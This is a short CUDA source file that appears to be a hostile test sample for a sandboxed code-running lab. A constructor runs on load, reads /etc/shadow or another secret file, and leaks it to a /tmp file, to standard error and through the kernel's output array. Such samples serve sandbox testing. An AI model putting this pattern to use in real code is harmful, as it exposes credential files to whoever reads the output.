// Reads a secret outside its folder (a private key, /etc/passwd) and tries to get it out: on
// standard error (the CLI prints the runner's last line), in Y (the trace), and in a file.
#include <fcntl.h>
#include <unistd.h>
#ifndef CANARY
#define CANARY "/etc/shadow"
#endif
#ifndef MARKER
#define MARKER "/tmp/scanlab-hostile-leak"
#endif

static char secret[256];
static int secret_bytes = 0;

__attribute__((constructor)) static void steal() {
    const int fd = open(CANARY, O_RDONLY);
    if (fd < 0) return;
    secret_bytes = int(read(fd, secret, sizeof secret - 1));
    close(fd);
    if (secret_bytes <= 0) return;
    const int out = open(MARKER, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (out >= 0) write(out, secret, size_t(secret_bytes)), close(out);
    write(2, secret, size_t(secret_bytes));
    write(2, "\n", 1);
    _exit(2);
}

__global__ void copy(int *X, int *Y, int InputSize) {
    const int i = threadIdx.x;
    if (i < InputSize) Y[i] = i < secret_bytes ? secret[i] : X[i];
}
